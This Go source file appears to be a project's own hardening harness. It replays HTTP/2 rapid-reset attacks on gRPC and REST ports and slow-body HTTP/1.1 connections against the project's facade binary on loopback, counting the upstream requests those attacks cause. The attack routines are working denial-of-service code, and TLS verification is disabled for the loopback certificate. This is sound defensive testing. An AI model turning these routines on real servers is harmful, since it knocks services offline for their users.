// Package attack replays the attacks of issue 16 against a built facade
// binary on loopback, in front of an in-process sandbox that counts the
// upstream requests each attack caused: HTTP/2 rapid reset on the gRPC port
// and on the HTTPS REST port (with a legitimate client measured before and
// during), slow bodies, and never-read watchers. It reports counts, ratios,
// latencies and the facade's RSS; docs/hardening.md has its figures and the
// command that reproduces them (cmd/attack). Every attack is bounded in count
// and time, and only ever dials 127.0.0.1.
package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/protobuf/proto"

	pluginv1 "github.com/acme/plugin-facade/gen/go/confluent/plugin/v1"
	"github.com/acme/plugin-facade/internal/sandbox"
)

// AttackPrefix begins the plugin ids attackers ask for, so that the upstream
// tells their requests from legitimate ones (which ask for sandbox.PluginID).
const AttackPrefix = "ccp-9"

// Upstream is the sandbox on loopback, without a rate limit, counting the
// requests for attackers' ids.
type Upstream struct {
	URL      string
	attacked atomic.Int64
	all      atomic.Int64
	srv      *http.Server
}

// StartUpstream serves the sandbox on 127.0.0.1.
func StartUpstream() (*Upstream, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	u := &Upstream{URL: "http://" + ln.Addr().String()}
	sb := sandbox.New(sandbox.WithRateLimit(0, 0), sandbox.WithLifecycle(time.Hour))
	u.srv = &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.all.Add(1)
		if strings.Contains(r.URL.Path, "/"+AttackPrefix) {
			u.attacked.Add(1)
		}
		sb.ServeHTTP(w, r)
	})}
	go func() { _ = u.srv.Serve(ln) }()
	return u, nil
}

// Attacked is how many requests for attackers' ids the upstream received.
func (u *Upstream) Attacked() int64 { return u.attacked.Load() }

// All is how many requests the upstream received.
func (u *Upstream) All() int64 { return u.all.Load() }

// Close stops the upstream.
func (u *Upstream) Close() error { return u.srv.Close() }

// SelfSignedCert writes the sandbox's loopback certificate and key
// (sandbox.LoopbackCert) into dir and returns their paths.
func SelfSignedCert(dir string) (certFile, keyFile string, err error) {
	certPEM, keyPEM, err := sandbox.LoopbackCert()
	if err != nil {
		return "", "", err
	}
	certFile, keyFile = filepath.Join(dir, "tls.crt"), filepath.Join(dir, "tls.key")
	if err := os.WriteFile(certFile, certPEM, 0o600); err != nil {
		return "", "", err
	}
	return certFile, keyFile, os.WriteFile(keyFile, keyPEM, 0o600)
}

// h2 is a client HTTP/2 connection spoken frame by frame.
type h2 struct {
	conn net.Conn
	fr   *http2.Framer
	enc  *hpack.Encoder
	buf  bytes.Buffer
	done chan struct{} // closed when the server closed the connection
}

func dialH2(addr string, useTLS bool) (*h2, error) {
	var c net.Conn
	var err error
	if useTLS {
		// Loopback, a certificate the tool made itself.
		c, err = tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec
	} else {
		c, err = net.Dial("tcp", addr)
	}
	if err != nil {
		return nil, err
	}
	h := &h2{conn: c, fr: http2.NewFramer(c, bufio.NewReader(c)), done: make(chan struct{})}
	h.enc = hpack.NewEncoder(&h.buf)
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		c.Close()
		return nil, err
	}
	if err := h.fr.WriteSettings(); err != nil {
		c.Close()
		return nil, err
	}
	go func() { // read (and drop) what the server says, until it closes
		defer close(h.done)
		for {
			if _, err := h.fr.ReadFrame(); err != nil {
				return
			}
		}
	}()
	return h, nil
}

func (h *h2) close() { h.conn.Close(); <-h.done }

func (h *h2) headers(fields ...string) []byte {
	h.buf.Reset()
	for i := 0; i+1 < len(fields); i += 2 {
		_ = h.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return bytes.Clone(h.buf.Bytes())
}

// Target is what a rapid reset opens streams of.
type Target int

const (
	GRPC Target = iota // GetConnectorPlugin on the gRPC port
	REST               // GET of a connector plugin on the HTTP(S) port
)

// openReset writes stream id's request for plugin, then resets it.
func (h *h2) openReset(t Target, authority string, id uint32, plugin string) error {
	var err error
	switch t {
	case GRPC:
		hdr := h.headers(":method", "POST", ":scheme", "https", ":authority", authority,
			":path", pluginv1.PluginService_GetConnectorPlugin_FullMethodName,
			"content-type", "application/grpc", "te", "trailers")
		if err = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hdr, EndHeaders: true}); err == nil {
			b, _ := proto.Marshal(&pluginv1.GetConnectorPluginRequest{Id: plugin})
			msg := make([]byte, 5, 5+len(b))
			binary.BigEndian.PutUint32(msg[1:], uint32(len(b)))
			err = h.fr.WriteData(id, true, append(msg, b...))
		}
	case REST:
		hdr := h.headers(":method", "GET", ":scheme", "https", ":authority", authority,
			":path", "/connect/v1/custom-connector-plugins/"+plugin)
		err = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hdr, EndHeaders: true, EndStream: true})
	}
	if err != nil {
		return err
	}
	return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
}

// ResetResult is what a rapid reset did.
type ResetResult struct {
	Streams     int // streams opened and reset
	Connections int // connections it took (the server closes some)
}

// RapidReset opens and resets streams on addr at rate per second for d, each
// for a distinct attacker's plugin id (so that no two share an upstream
// exchange), reconnecting whenever the server closes the connection.
func RapidReset(ctx context.Context, addr string, useTLS bool, t Target, rate int, d time.Duration) (ResetResult, error) {
	var res ResetResult
	end := time.Now().Add(d)
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	perTick := max(rate/1000, 1)
	var c *h2
	var id uint32
	defer func() {
		if c != nil {
			c.close()
		}
	}()
	for time.Now().Before(end) && ctx.Err() == nil {
		<-tick.C
		for range perTick {
			if c == nil || id > 1<<30 {
				if c != nil {
					c.close()
				}
				var err error
				if c, err = dialH2(addr, useTLS); err != nil {
					return res, err
				}
				res.Connections++
				id = 1
			}
			plugin := fmt.Sprintf("%s%07d", AttackPrefix, res.Streams)
			if err := c.openReset(t, addr, id, plugin); err != nil {
				c.close()
				c = nil
				continue
			}
			id += 2
			res.Streams++
		}
	}
	return res, nil
}

// Latencies are the durations of a legitimate client's calls, and its
// failures.
type Latencies struct {
	Calls    []time.Duration
	Failures int
}

// Legit calls call one after the other until ctx ends.
func Legit(ctx context.Context, call func(context.Context) error) Latencies {
	var l Latencies
	for ctx.Err() == nil {
		start := time.Now()
		cctx, cancel := context.WithTimeout(ctx, 10*time.Second)
		err := call(cctx)
		cancel()
		if ctx.Err() != nil {
			break
		}
		l.Calls = append(l.Calls, time.Since(start))
		if err != nil {
			l.Failures++
		}
	}
	return l
}

// P50 is the median call duration.
func (l Latencies) P50() time.Duration {
	if len(l.Calls) == 0 {
		return 0
	}
	s := slices.Clone(l.Calls)
	slices.Sort(s)
	return s[len(s)/2]
}

// SlowBodies opens n HTTP/1.1 connections to addr, each sending a GET that
// declares a body of 100,000 bytes and never sends it, and reports how many
// are still open after wait.
func SlowBodies(addr string, n int, wait time.Duration) (open int, err error) {
	conns := make([]net.Conn, 0, n)
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	for range n {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			return 0, err
		}
		conns = append(conns, c)
		req := "GET /connect/v1/custom-connector-plugins/" + sandbox.PluginID + " HTTP/1.1\r\nHost: facade\r\nContent-Length: 100000\r\n\r\n"
		if _, err := io.WriteString(c, req); err != nil {
			return 0, err
		}
	}
	deadline := time.Now().Add(wait)
	var mu sync.Mutex
	var wg sync.WaitGroup
	for _, c := range conns {
		wg.Go(func() {
			_ = c.SetReadDeadline(deadline)
			_, err := io.Copy(io.Discard, c)
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				mu.Lock()
				open++
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	return open, nil
}
